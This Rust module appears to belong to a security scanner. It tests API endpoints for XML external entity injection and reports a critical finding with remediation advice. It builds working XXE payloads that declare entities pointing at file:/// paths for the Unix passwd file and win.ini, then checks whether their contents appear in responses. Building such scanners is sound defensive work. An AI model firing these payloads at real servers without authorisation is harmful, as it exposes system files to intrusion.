//! Entities of XML that bring files.
//!
//! A parser that resolves external entities reads any file that the server can read. First an entity of its own text
//! shows whether entities are put in at all; then one names a system file.

use bytes::Bytes;

use super::files::{PASSWD, WIN_INI, system_file_in};
use crate::answer::Reply;
use crate::attack::{Attack, Hole, Tried};
use crate::attacks::aim::{self, Aim};
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use crate::request::Slot;
use crate::surface::BodyFormat;
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "xxe",
    door: GuideDoor::Firewall,
    shut_by: ShutBy::Code,
    thought: "If my XML names a file, is its content put in?",
    level: Level::Critical,
    references: &["CWE-611", "API8:2023"],
    mend_in_code: "Turn document types and external entities off in the parser.",
    mend_at_gate: "The door injection refuses document types with entities by its detector xml; keep [doors] injection in enforce.",
    run: |p, tried| Box::pin(run(p, tried)),
};

/// Stands where the entity belongs.
const MARK: &str = "dwentity7q";

async fn run<'a>(p: &'a Prober<'a>, tried: &mut Tried) -> Result<(), Stop> {
    aim::each(
        p,
        tried,
        |control, slot| {
            let body = p.surface.endpoint(control.endpoint).body.as_ref();
            body.is_some_and(|body| matches!(body.format, BodyFormat::Xml(_)))
                && matches!(slot, Slot::Body(_))
        },
        |p, aim, tried| Box::pin(try_slot(p, aim, tried)),
    )
    .await
}

async fn try_slot(p: &Prober<'_>, aim: &Aim, tried: &mut Tried) -> Result<(), Stop> {
    for url in [format!("file:///{PASSWD}"), format!("file:///c:/{WIN_INI}")] {
        let reply = ask(p, aim, &format!("<!ENTITY e SYSTEM \"{url}\">")).await?;
        let Some(file) = system_file_in(&reply.text()) else {
            tried.shut(&reply.seen);
            continue;
        };
        if system_file_in(&aim.baseline.reply.text()).is_none()
            && system_file_in(&ask(p, aim, &format!("<!ENTITY e SYSTEM \"{url}\">")).await?.text())
                == Some(file)
        {
            let message = format!("an entity puts the lines of {file} into the answer");
            tried.open(Hole::shown(&aim.operation, &aim.slot, message, &aim.baseline.reply, &reply));
            return Ok(());
        }
    }
    // Entities of their own text are no hole yet, but the parser takes what it should not.
    let reply = ask(p, aim, "<!ENTITY a \"dwlong7\"><!ENTITY e \"&a;word8\">").await?;
    if reply.text().contains("dwlong7word8") {
        tried.unknown(format!("{}: entities are put in, but no file was", aim.operation));
    }
    Ok(())
}

/// Asks with a document type that declares the entity, which stands in the slot.
async fn ask(p: &Prober<'_>, aim: &Aim, entities: &str) -> Result<Reply, Stop> {
    let draft = aim.with(MARK).settled();
    let mut probe = draft.probe(p.surface.endpoint(draft.endpoint));
    if let Some(content) = &mut probe.body {
        let text = String::from_utf8_lossy(&content.bytes).into_owned();
        content.bytes = Bytes::from(with_entity(&text, entities));
    }
    p.ask_as(draft, probe, aim.baseline.who).await
}

fn with_entity(xml: &str, entities: &str) -> String {
    let (head, rest) = xml.split_once("?>").unwrap_or(("<?xml version=\"1.0\"", xml));
    format!("{head}?><!DOCTYPE r [{entities}]>{}", rest.replace(MARK, "&e;"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_entity_stands_where_the_value_stood() {
        assert_eq!(
            with_entity("<?xml version=\"1.0\"?><r><a>dwentity7q</a></r>", "<!ENTITY e \"x\">"),
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e \"x\">]><r><a>&e;</a></r>"
        );
        assert_eq!(with_entity("<r/>", ""), "<?xml version=\"1.0\"?><!DOCTYPE r []><r/>");
    }
}
